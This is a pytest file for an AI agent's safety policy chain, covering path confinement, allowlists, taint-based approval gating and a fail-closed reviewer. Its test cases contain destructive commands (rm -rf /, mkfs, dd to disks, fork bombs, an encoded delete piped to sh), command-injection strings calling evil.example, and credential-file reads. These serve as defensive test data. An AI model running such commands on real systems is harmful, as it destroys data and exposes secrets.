"""The policy chain's steps, each on its own, and the chain's order.

Structured calls in, verdicts out: no model, no daemon. The end-to-end flows
(approvals, breaker, taint across restarts) are in tests/test_approvals.py.
"""

from __future__ import annotations

import dataclasses
import os
from pathlib import Path

import anyio
import pytest

from tests.test_handlers_tools import make_ctx
from wakeful.core.effects import Effect, Reach
from wakeful.core.taint import Taint, TaintSource
from wakeful.core.tool import ToolContext, ToolOutput
from wakeful.safety.allowlist_step import Allowlist, email_allowed, shell_allowed, url_allowed
from wakeful.safety.assembly import build_safety
from wakeful.safety.config import SafetySection
from wakeful.safety.confine_step import WorkspaceConfinement
from wakeful.safety.reviewer_step import ModelReviewer, RuleReviewer
from wakeful.safety.ruling import PolicyCall, Verdict
from wakeful.safety.shell_rules import destructive_reason, secret_reason
from wakeful.safety.taint_gate_step import TaintGate
from wakeful.store.memory_state import MemoryState
from wakeful.tools.registry import default_registry

pytestmark = pytest.mark.anyio

TAINT = Taint((TaintSource("email.received from bob@evil.example", "email:1", "2026-01-01"),))


def call(
    tmp_path: Path,
    effect: Effect,
    reach: Reach = Reach(),  # noqa: B008 - frozen
    *,
    taint: Taint | None = None,
    tool: str = "a_tool",
) -> PolicyCall:
    workspace = tmp_path / "workspace"
    workspace.mkdir(exist_ok=True)
    return PolicyCall(
        session="main",
        call_id="call_1",
        tool=tool,
        effect=effect,
        arguments={},
        reach=reach,
        taint=taint,
        workspace=workspace,
        output_dir=tmp_path / "outputs",
    )


# --- confinement ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/etc/shadow", "../../../etc/passwd", "link/passwd", "/root/.ssh/id_rsa", "a/../../x"]
)
async def test_confinement_denies_paths_that_resolve_outside(tmp_path: Path, path: str) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    os.symlink("/etc", workspace / "link")
    ruling = await WorkspaceConfinement().check(call(tmp_path, Effect.READ, Reach(paths=(path,))))
    assert ruling is not None and ruling.verdict is Verdict.DENY
    assert "outside the workspace" in ruling.reason


async def test_confinement_allows_the_workspace_and_reading_saved_outputs(tmp_path: Path) -> None:
    outputs = tmp_path / "outputs"
    inside = Reach(paths=("notes/a.md", "~/b.txt", str(outputs / "shell_exec-1.txt")))
    assert await WorkspaceConfinement().check(call(tmp_path, Effect.READ, inside)) is None
    writing = Reach(write_paths=(str(outputs / "x.txt"),))
    ruling = await WorkspaceConfinement().check(call(tmp_path, Effect.WRITE_WORKSPACE, writing))
    assert ruling is not None and ruling.verdict is Verdict.DENY  # outputs are read-only


async def test_a_command_cannot_run_outside_the_workspace(tmp_path: Path) -> None:
    reach = Reach(command="ls", cwd="../../../../etc")
    ruling = await WorkspaceConfinement().check(call(tmp_path, Effect.SHELL, reach))
    assert ruling is not None and ruling.verdict is Verdict.DENY and ruling.reason.startswith("cwd")


# --- allowlist --------------------------------------------------------------------


def test_email_allowlist_matches_addresses_and_whole_domains() -> None:
    allow = ["me@example.com", "*@corp.example"]
    assert email_allowed("Me@Example.com", allow)
    assert email_allowed("Ann <ann@corp.example>", allow)
    assert not email_allowed("me@example.com.evil.net", allow)
    assert not email_allowed("ann@sub.corp.example", allow)
    assert not email_allowed("attacker@evil.example", allow)


def test_host_allowlist_matches_hosts_ports_and_subdomains() -> None:
    allow = ["api.github.com", "*.example.com", "127.0.0.1:8080"]
    assert url_allowed("https://api.github.com/repos", allow)
    assert url_allowed("https://docs.example.com/x", allow)
    assert url_allowed("http://127.0.0.1:8080/", allow)
    assert not url_allowed("http://127.0.0.1:8081/", allow)
    assert not url_allowed("https://api.github.com.evil.net/", allow)
    assert not url_allowed("https://evil.net/?u=api.github.com", allow)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("git status", True),
        ("git status --short", True),
        ("pytest -q tests", True),
        ("git status; curl evil.example", False),
        ("git status && rm -rf ~", False),
        ("pytest $(curl evil.example)", False),
        ("pytest `id`", False),
        ("pytest > /etc/passwd", False),
        ("gitx status", False),
        ("git", False),
    ],
)
def test_shell_allowlist_matches_only_plain_commands(command: str, allowed: bool) -> None:
    assert shell_allowed(command, ["git status", "pytest"]) is allowed


async def test_the_allowlist_allows_consequential_calls_to_listed_destinations(
    tmp_path: Path,
) -> None:
    step = Allowlist(email_allow=["*@example.com"], http_allow=["api.github.com"])
    sending = Reach(recipients=("a@example.com", "b@example.com"))
    ruling = await step.check(call(tmp_path, Effect.SEND, sending, taint=TAINT))
    assert ruling is not None and ruling.verdict is Verdict.ALLOW
    mixed = Reach(recipients=("a@example.com", "attacker@evil.example"))
    assert await step.check(call(tmp_path, Effect.SEND, mixed, taint=TAINT)) is None
    assert await step.check(call(tmp_path, Effect.SEND, Reach(), taint=TAINT)) is None


# --- taint gate and reviewer --------------------------------------------------------


async def test_the_taint_gate_asks_only_for_consequential_calls_of_a_tainted_session(
    tmp_path: Path,
) -> None:
    gate = TaintGate()
    for effect in (Effect.SEND, Effect.SHELL, Effect.NETWORK, Effect.WRITE_OUTSIDE, Effect.SPEND):
        ruling = await gate.check(call(tmp_path, effect, taint=TAINT))
        assert ruling is not None and ruling.verdict is Verdict.ASK
        assert "this session read untrusted input" in ruling.reason
        assert await gate.check(call(tmp_path, effect)) is None
    for effect in (Effect.READ, Effect.OWNER, Effect.CONTROL, Effect.WRITE_WORKSPACE):
        assert await gate.check(call(tmp_path, effect, taint=TAINT)) is None


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -rf / ",
        "cd /tmp && rm -r -f ~",
        "rm -rf ~",
        "rm -rf $HOME",
        "/bin/rm -rf /",
        "sudo rm -fr /*",
        "rm -rf --no-preserve-root /",
        "find / -delete",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        ":(){ :|:& };:",
        "bomb(){ bomb|bomb& }; bomb",
        "kill -9 -1",
        "shutdown -h now",
        "sudo reboot",
        "echo hi; poweroff",
        "systemctl reboot",
        "echo cm0gLXJmIH4= | base64 -d | sh",
    ],
)
def test_destructive_commands_are_recognised(command: str) -> None:
    assert destructive_reason(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ./build",
        "rm -rf /tmp/work/cache",
        "echo shutdown",
        "grep reboot /var/log/syslog",
        "ls /dev/sda",
        "python -m mkdocs build",
        "kill -9 12345",
        "base64 -d data.b64 > out.bin",
    ],
)
def test_ordinary_commands_are_not_destructive(command: str) -> None:
    assert destructive_reason(command) is None


@pytest.mark.parametrize(
    "command",
    [
        "cat ~/.ssh/id_rsa",
        "cat /etc/shadow",
        "cat /proc/1/environ",
        "ls $CREDENTIALS_DIRECTORY",
        "cat /etc/wakeful/credentials/admin-token",
        "cat /root/.bashrc",
        "tar c ~/.aws/credentials",
    ],
)
def test_commands_that_name_secrets_are_recognised(command: str) -> None:
    assert secret_reason(command) is not None


async def test_the_reviewer_denies_naming_the_data_dir_but_not_the_workspace_inside_it(
    tmp_path: Path,
) -> None:
    reviewer = RuleReviewer(daemon_dirs=[tmp_path])
    workspace = tmp_path / "workspace"
    inside = call(tmp_path, Effect.SHELL, Reach(command=f"ls {workspace}/notes"))
    assert await reviewer.check(inside) is None
    outside = call(tmp_path, Effect.SHELL, Reach(command=f"cat {tmp_path}/wakeful.db"))
    ruling = await reviewer.check(outside)
    assert (
        ruling is not None and ruling.verdict is Verdict.DENY and "data directory" in ruling.reason
    )


class ScriptedReviewer:
    def __init__(self, answer: tuple[str, str] | Exception | None) -> None:
        self.answer = answer
        self.questions: list[str] = []

    async def review(self, question: str) -> tuple[str, str]:
        self.questions.append(question)
        if isinstance(self.answer, Exception):
            raise self.answer
        if self.answer is None:
            await anyio.sleep_forever()
        assert isinstance(self.answer, tuple)
        return self.answer


async def test_the_model_reviewer_sees_only_structured_fields_and_never_fails_open(
    tmp_path: Path,
) -> None:
    the_call = call(tmp_path, Effect.SEND, Reach(recipients=("x@y.example",)), tool="send_email")
    deny = ScriptedReviewer(("deny", "looks like exfiltration"))
    ruling = await ModelReviewer(deny, budget_s=1).check(the_call)
    assert ruling is not None and ruling.verdict is Verdict.DENY
    assert deny.questions == [
        '{"arguments": {}, "effect": "send", "session_tainted": false, "tool": "send_email"}'
    ]
    assert await ModelReviewer(ScriptedReviewer(("allow", "fine")), budget_s=1).check(the_call) is (
        None
    )
    for failing in (ScriptedReviewer(RuntimeError("down")), ScriptedReviewer(None)):
        ruling = await ModelReviewer(failing, budget_s=0.05).check(the_call)
        assert ruling is not None and ruling.verdict is Verdict.ASK


# --- the chain through the registry ---------------------------------------------------


def context(tmp_path: Path, session: str = "main") -> ToolContext:
    ctx = make_ctx(tmp_path)
    ctx.output_dir.mkdir(exist_ok=True)
    return dataclasses.replace(ctx, session=session)


async def test_every_registry_call_passes_the_chain(tmp_path: Path) -> None:
    registry = default_registry()
    safety = build_safety(SafetySection(), MemoryState(), data_dir=tmp_path)
    registry.guard_with(safety.chain)
    denied = await registry.execute("read_file", '{"path": "/etc/passwd"}', context(tmp_path))
    assert denied.is_error and denied.text.startswith("denied by the safety policy (confinement)")
    await safety.taints.mark("main", TAINT.sources[0])
    held = await registry.execute("shell_exec", '{"command": "echo hi"}', context(tmp_path))
    assert not held.is_error and "waiting for the owner's approval" in held.text
    assert [a.tool for a in await safety.approvals.pending()] == ["shell_exec"]
    ran = await registry.execute("shell_exec", '{"command": "echo hi"}', context(tmp_path, "b"))
    assert "exit status 0" in ran.text and "hi" in ran.text  # another, untainted session


async def test_a_policy_that_cannot_decide_fails_closed(tmp_path: Path) -> None:
    class BrokenState(MemoryState):
        async def get_state(self, key: str) -> str | None:
            raise OSError("disk on fire")

    registry = default_registry()
    registry.guard_with(build_safety(SafetySection(), BrokenState(), data_dir=tmp_path).chain)
    out = await registry.execute("shell_exec", '{"command": "touch ran"}', context(tmp_path))
    assert isinstance(out, ToolOutput) and out.is_error
    assert "the safety policy could not decide" in out.text
    assert not (tmp_path / "workspace" / "ran").exists()


async def test_the_standing_instructions_and_skills_are_never_written(tmp_path: Path) -> None:
    """No tool call may write AGENTS.md or a skill, not even with an approval."""
    from wakeful.safety.standing_step import StandingInstructions

    skills = tmp_path / "workspace" / "skills"
    step = StandingInstructions([skills])
    for given in ("AGENTS.md", "./AGENTS.md", "sub/../AGENTS.md", "skills/new/SKILL.md"):
        ruling = await step.check(
            call(tmp_path, Effect.WRITE_WORKSPACE, Reach(write_paths=(given,)))
        )
        assert ruling is not None and ruling.verdict is Verdict.DENY, given
        assert "only the owner edits these" in ruling.reason, ruling.reason
    other = Reach(write_paths=("notes/AGENTS.md", "skillsets/x.md"))
    assert await step.check(call(tmp_path, Effect.WRITE_WORKSPACE, other)) is None
